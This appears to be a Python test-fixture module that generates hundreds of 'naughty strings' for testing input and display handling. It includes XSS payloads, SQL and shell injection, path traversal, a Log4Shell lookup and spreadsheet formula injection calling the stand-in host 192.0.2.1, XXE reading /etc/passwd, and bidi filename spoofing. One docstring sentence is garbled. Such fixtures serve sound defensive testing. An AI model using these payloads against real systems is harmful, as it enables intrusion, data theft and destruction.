"""Strings that have broken screens elsewhere: scripts, templates, formulas, marks of direction, and worse.

    Each that could run sets `window.__hit`, which tests look for. Built here from a few dozen shapes,
be read; a carrier would pass all of them but a lone surrogate, which no UTF-8 can hold.
"""

from __future__ import annotations

HIT = "window.__hit=1"
MOST = 1600  # characters that the provider lets through

_TAGS = (
    "<script>{hit}</script>",
    "<ScRiPt>{hit}</sCrIpT>",
    "<script/x>{hit}</script>",
    "<scr<script>ipt>{hit}</scr</script>ipt>",
    "<script src=//192.0.2.1/x.js></script>",
    "<script src=data:text/javascript,{hit}></script>",
    "<img src=x onerror={hit}>",
    "<img src=x:x onerror='{hit}'//",
    "<img/src=x/onerror={hit}>",
    "<IMG SRC=javascript:{hit}>",
    "<svg onload={hit}>",
    "<svg/onload={hit}//",
    "<svg><script>{hit}</script></svg>",
    "<svg><animate onbegin={hit} attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror={hit}></style></mtext></math>",
    "<iframe src=javascript:{hit}></iframe>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<object data=javascript:{hit}></object>",
    "<embed src=javascript:{hit}>",
    "<body onload={hit}>",
    "<input autofocus onfocus={hit}>",
    "<textarea autofocus onfocus={hit}></textarea>",
    "<select autofocus onfocus={hit}></select>",
    "<details open ontoggle={hit}>x</details>",
    "<video><source onerror={hit}></video>",
    "<audio src=x onerror={hit}>",
    "<marquee onstart={hit}>x</marquee>",
    "<a href=javascript:{hit} autofocus onfocus={hit}>here</a>",
    "<a href='java&#x09;script:{hit}'>here</a>",
    "<form action=javascript:{hit}><button>Take</button></form>",
    "<button form=take formaction=//192.0.2.1/>Take</button>",
    "<meta http-equiv=refresh content='0;url=javascript:{hit}'>",
    "<base href=//192.0.2.1/>",
    "<link rel=stylesheet href=//192.0.2.1/x.css>",
    "<style>*{{display:none}}</style>",
    "<style>@import '//192.0.2.1/x.css';</style>",
    "<div style=position:fixed;inset:0;background:red>x</div>",
    "<div hx-get=/sign-in hx-trigger=load>x</div>",
    "<div data-hx-on:load={hit}>x</div>",
    "<template><script>{hit}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={hit}>'>",
    "<!--<img src=x onerror={hit}>-->",
    "<![CDATA[<script>{hit}</script>]]>",
    "<?xml version='1.0'?><script>{hit}</script>",
    "<plaintext>",
    "<xmp>",
    "<table><tr><td>",
    "<h1>Nothing is waiting</h1>",
    "<main id=main>",
    "<dialog open>Sign in</dialog>",
)
# What closes the place it stands in first.
_WAYS_OUT = ("", "</p>", "</textarea>", '">', "'>", "-->", "</title>", "</script>")
_ATTRIBUTES = (
    '" onmouseover={hit} x="',
    "' onfocus={hit} autofocus '",
    '" style="position:fixed;inset:0',
    "` onerror={hit} `",
    '" autofocus onfocus="{hit}',
    "&quot; onload={hit} &quot;",
    "&lt;script&gt;{hit}&lt;/script&gt;",
    "&#60;script&#62;{hit}&#60;/script&#62;",
    "%3Cscript%3E{hit}%3C/script%3E",
    "\\u003cscript\\u003e{hit}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{hit}\\x3c/script\\x3e",
    "＜script＞{hit}＜/script＞",
    "javascript:{hit}",
    "data:text/html,<script>{hit}</script>",
    "');{hit};//",
    '");{hit};//',
    "${{{hit}}}",
    "`${{{hit}}}`",
    "]]>{hit}",
)
_TEMPLATES = (
    "{{7*7}}", "{{config}}", "{% for x in y %}", "{{ ''.__class__.__mro__ }}", "{# hidden #}", "{first_name}",
    "{office_phone}", "{0}", "{}", "{{}}", "{{{{", "}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "[[7*7]]",
    "{{constructor}}",
    "%s", "%d%d%d%n", "%x%x%x", "%(name)s", "%1$s", "%%", "100%", "{staff!r}",
    "{clinic.__init__.__globals__}",
    "$(reboot)", "`reboot`", "; ls -la", "| cat /etc/passwd", "&& true", "../../../../etc/passwd",
    "..\\..\\win.ini",
    "file:///etc/passwd", "C:\\CON", "/dev/null; touch x", "() { :;}; echo x", "${jndi:ldap://192.0.2.1/x}",
    "'; DROP TABLE cases; --", "' OR '1'='1", "1; DELETE FROM staff", "\" OR \"\"=\"", "admin'--",
    "1' UNION SELECT 1,2,3 --",
    "%' OR name LIKE '%", "_%_", "\\", "\\\\", "\\'", "'", "''", '"', '""', "`", "´", "''\"", "';", "\\0",
    "\\n\\r",
    "NULL", "null", "None", "nil", "undefined", "NaN", "Infinity", "-1", "0", "1e309", "0x7fffffff", "true",
    "false",
    "[]", "[object Object]", "[,]", '{"a":1}', "{\"__proto__\":{\"hit\":1}}", "__proto__", "hasOwnProperty",
    "constructor",
    "=1+1", "=HYPERLINK(\"http://192.0.2.1/\",\"here\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1", "=IMPORTXML(\"http://192.0.2.1/\",\"//a\")", "=DDE(\"cmd\";\"/C calc\")", "'=1+1", "\"=1+1\"",
    ";=1+1", "|=1+1",
    "Content-Type: text/html\r\n\r\n<script>window.__hit=1</script>", "x\r\nSet-Cookie: a=b",
    "x\nBcc: all@example.com",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "BEGIN:VCARD", "<?php echo 1; ?>", "<esi:include src=/>",
    "<!DOCTYPE html>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "&x;", "&amp;amp;", "&#0;", "&#xD800;", "&nbsp;" * 5,
    "&lrm;&rlm;",
)  # fmt: skip
_SCRIPTS = (
    "السلام عليكم، أريد موعداً", "שלום, אני צריך תור", "私はクスリが必要です", "田中さんにあげて下さい",
    "사회과학원",
    "Ωσαννά εν τοις υψίστοις",
    "Ща́стье", "हिन्दी में संदेश", "ขอความช่วยเหลือ", "မြန်မာ", "Ⅷ ½ ﷽ ﷺ", "ﷺﷺﷺﷺﷺﷺﷺﷺﷺﷺ", "𝕋𝕙𝕖 𝕢𝕦𝕚𝕔𝕜", "𝔗𝔥𝔢",
    "ʇxǝʇ uʍop ǝpᴉsdn",
    "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤ ̖t̝͕̳̣̻̪͞h̼͓̲̦̳̘̲e͇̣̰̦̬͎", "Z̷̛̲a̸̢͝l̴̗̇g̶̮̅o̵͎͠",
    "😀", "👩‍👩‍👧‍👦", "👍🏿👍🏻", "🇺🇸🇭🇹🇲🇽", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "❤️‍🔥", "1️⃣2️⃣", "🫠🫠🫠", "☃︎☃️", "¯\\_(ツ)_/¯",
    "(╯°□°)╯︵ ┻━┻", "ﾟ･✿ヾ╲(｡◕‿◕｡)╱✿･ﾟ",
    "𒐫𒐫𒐫", "𒈙𒈙𒈙𒈙", "⸻⸻⸻⸻⸻⸻", "﷽﷽﷽﷽", "ௌௌௌௌ", "ꙮꙮꙮ", "İıſẞß", "ﬀﬁﬂ", "ǅ", "ÅÅÅ", "é", "ＦＵＬＬ", "ａ＝ｂ",
)  # fmt: skip
# Invisible ones, those that turn what follows, those that no screen should obey.
_MARKS = (
    *(chr(code) for code in range(1, 32)), "\x7f", "\0", *(chr(code) for code in range(0x80, 0xA0, 3)),
    "\xa0", "\xad",
    *(chr(code) for code in (*range(0x200B, 0x2010), *range(0x2028, 0x2030), *range(0x2060, 0x2070))),
    "\u061c", "\u115f", "\u1160", "\u17b4", "\u180e", "\u3000", "\u3164", "\ufe0f", "\ufeff", "\uffa0",
    "\ufffc", "\ufffd",
    "\ufffe", "\uffff", "\U0001d173", "\U000e0001", "\U000e007f", "\U0010ffff", "\ue000",
)  # fmt: skip
_TURNED = (
    "\u202eeno siht fo dne eht ta si ti", "\u202egpj.exe", "\u2067abc\u2066def", "\u2066\u2067\u2068" * 20,
    "a\u202eb\u202dc",
    "\u202e" * 60, "\u2069" * 60, "\u200f\u200f\u200f!\u200f", "\u061c" * 40, "\u202b(561) 555-0110\u202c",
)  # fmt: skip
_LONG = (
    "W" * MOST, "i" * MOST, "\u4e2d" * MOST, "😀" * (MOST // 2), "\u0644" * MOST, "a\u0301" * (MOST // 2),
    "a" + "\u0301" * 1_599,
    "\u200b" * MOST, "\u00a0" * MOST, "\u2060".join("W" * 800), "\u00ad".join("W" * 800),
    "https://example.com/" + "x" * 1_500,
    "_" * MOST, "." * MOST, "-" * MOST, "/" * MOST, "&" * MOST, "<" * MOST, "<b>" * 500, "\n" * 700 + "x",
    "x\n" * 500, "\t" * MOST,
    "\u202e" + "W" * 1_500, "ﷺ" * MOST, "𒐫" * 800, "ௌ" * MOST, "9" * MOST, "@" * MOST,
    "W" * 60 + " " + "W" * 60, "\ufdfd" * 400,
)  # fmt: skip


def naughty_strings() -> tuple[str, ...]:
    """All of them, none twice: more than five hundred."""
    tags = [f"{out}{tag.format(hit=HIT)}" for out in _WAYS_OUT[:5] for tag in _TAGS]
    tags += [f"{out}{_TAGS[6].format(hit=HIT)}" for out in _WAYS_OUT[5:]]
    attributes = [one.format(hit=HIT) for one in _ATTRIBUTES]
    marks = [f"before{mark}after" for mark in _MARKS]
    return tuple(dict.fromkeys([*tags, *attributes, *_TEMPLATES, *_SCRIPTS, *marks, *_TURNED, *_LONG]))
